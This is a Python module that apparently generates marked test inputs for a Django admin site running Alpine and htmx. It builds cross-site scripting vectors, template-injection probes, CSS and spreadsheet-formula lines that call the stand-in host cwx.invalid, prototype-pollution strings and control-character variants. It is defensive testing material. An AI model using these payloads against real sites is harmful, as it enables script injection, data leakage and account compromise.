"""Texts that would run, were they taken for anything but text. Each bears MARK: as an attribute of whatever element would
come of it, beside what it would run, and in the host that it would ask.
"""

from itertools import product
from typing import Final

MARK: Final = "cwx"
HOST: Final = f"{MARK}.invalid"
_RUN: Final = f"window.{MARK}=1"
SUM: Final = f"{MARK}1337"  # what a template that is obeyed makes of the sum below

_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onbeforeinput",
    "onpointerenter",
)
_OUTS = (
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</style>",
    "</script>",
    "]]>",
)
_ELEMENTS = (
    f"<script {MARK}>{_RUN}</script>",
    f"<img {MARK} src=//{HOST}/x onerror={_RUN}>",
    f"<svg {MARK} onload={_RUN}>",
    f"<details {MARK} open ontoggle={_RUN}>",
)


def _scripts() -> list[str]:
    names = ("script", "SCRIPT", "scr\tipt", "script/", "script\n", "script ")
    made = [f"<{name} {MARK}>{_RUN}</script>" for name in names]
    return [*made, f"<script {MARK} src=//{HOST}/x></script>", f"<script {MARK}>alert(1)//", f"<<script {MARK}>>{_RUN}"]


def _handlers() -> list[str]:
    tags = ("img src=x", "svg", "body", "video", "input autofocus", "details open", "iframe", "math")
    return [f"<{tag} {MARK} {event}={_RUN}>" for tag, event in product(tags, _EVENTS)]


def _addresses() -> list[str]:
    lead = (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        " javascript:",
        "javascript&colon;",
        "vbscript:",
        "data:text/html,",
    )
    bare = [f"{each}{_RUN}//{MARK}" for each in lead]
    return [
        *bare,
        *(f"<a {MARK} href='{each}{_RUN}'>x</a>" for each in lead),
        f"data:text/html;base64,PHNjcmlwdD4{MARK}",
    ]


def _break_outs() -> list[str]:
    attributes = [f"x{quote} {MARK} {event}={quote}{_RUN}" for quote, event in product("\"'", _EVENTS)]
    return [*attributes, *(f"{out}{element}" for out, element in product(_OUTS, _ELEMENTS))]


def _templates() -> list[str]:
    """What Django, JavaScript and others would work out, or obey."""
    total = (
        f"{MARK}{{{{ 7|add:1330 }}}}",
        f"{MARK}{{{{1330+7}}}}",
        f"{MARK}${{1330+7}}",
        f"{MARK}#{{1330+7}}",
        f"{MARK}<%= 1330+7 %>",
    )
    orders = ("load static", "include 'admin/base.html'", "autoescape off", "debug", "endblock", "now 'Y'")
    formats = ("%(name)s", "%s%s%n", "{0}", "{name.__class__}", "{{ request.user.password }}", "{{ form|safe }}")
    return [*total, *(f"{{% {order} %}}{MARK}" for order in orders), *(f"{each} {MARK}" for each in formats)]


def _of_the_theme() -> list[str]:
    """The staff pages run Alpine and htmx: an attribute is code there."""
    names = (
        "x-data",
        "x-init",
        "x-effect",
        "x-bind:href",
        ":href",
        "@click",
        "x-on:load",
        "x-html",
        "x-text",
        "x-show",
        "x-if",
    )
    out = [f'x" {MARK} {name}="{_RUN}' for name in names]
    own = [
        f"<p {MARK} x-data x-init={_RUN}>",
        f"<p {MARK} hx-on:load={_RUN}>",
        f"<p {MARK} hx-get=//{HOST}/ hx-trigger=load>",
    ]
    inside = [f"'+({_RUN})+'", f"');{_RUN};('", f"\\');{_RUN}//", f"&#39;);{_RUN};(&#39;", f"$el.{_RUN}"]
    return [*out, *own, *(f"{each} {MARK}" for each in inside)]


def _pictures() -> list[str]:
    ran = f"<script>{_RUN}</script>"
    return [
        f"<svg {MARK}>{ran}</svg>", f"<svg {MARK}><animate onbegin={_RUN} attributeName=x>", f"<svg {MARK}><a href=javascript:{_RUN}>",
        f"<svg {MARK}><use href=//{HOST}/x#x>", f"<svg {MARK}><foreignObject><iframe srcdoc='{ran}'>", f"<math {MARK}><mtext><img onerror={_RUN}>",
        f"<object {MARK} data=//{HOST}/x>", f"<embed {MARK} src=//{HOST}/x>", f"<base {MARK} href=//{HOST}/>", f"<form {MARK} action=//{HOST}/>",
        f"<iframe {MARK} srcdoc='{ran}'>", f"<meta {MARK} http-equiv=refresh content=0;url=//{HOST}/>", f"<link {MARK} rel=stylesheet href=//{HOST}/x>",
    ]  # fmt: skip


def _styles() -> list[str]:
    ask = f"url(//{HOST}/x)"
    return [
        f"<style {MARK}>*{{background:{ask}}}</style>", f"<p {MARK} style=background:{ask}>", f'x" {MARK} style="background:{ask}',
        f"red;background:{ask}", f"}}*{{background:{ask}}}", f"<style {MARK}>@import '//{HOST}/x'</style>",
    ]  # fmt: skip


def _others() -> list[str]:
    """Formulas, control characters, signs that turn the direction of writing, entities, broken ones, and long ones."""
    formulas = [f'{sign}HYPERLINK("//{HOST}","{MARK}")' for sign in ("=", "+", "-", "@", "\t=", "|")]
    signs = [
        "\x01",
        "\x08",
        "\x0b",
        "\x1b[31m",
        "\x7f",
        "\x85",
        "\u2028",
        "\u202e",
        "\u2066",
        "\u200b",
        "\ufeff",
        "\ufffe",
    ]
    broken = [f"{sign}<img {MARK} onerror={_RUN}>{sign}" for sign in signs]
    entities = [
        f"&lt;img {MARK} onerror={_RUN}&gt;",
        f"&#60;img {MARK}&#62;",
        f"%3Cimg {MARK}%3E",
        f"\\u003cimg {MARK}\\u003e",
        f"＜img {MARK}＞",
    ]
    objects = [f'{{"__proto__": {{"{MARK}": 1}}}}', f'"}};{_RUN};//{MARK}', f"<!--{MARK}", f"<![CDATA[<{MARK}>"]
    long = [
        f"{'x' * 120}<img {MARK} onerror={_RUN}>",
        f"<img {MARK} title={'y' * 100}",
        f"{'<b>' * 40}{MARK}",
        f"{'&quot;' * 20} {MARK}=1",
    ]
    return [*formulas, *broken, *entities, *objects, *long]


PAYLOADS: Final = tuple(
    dict.fromkeys(
        [
            *_scripts(), *_handlers(), *_addresses(), *_break_outs(), *_templates(), *_of_the_theme(), *_pictures(), *_styles(), *_others(),
        ]
    )
)  # fmt: skip
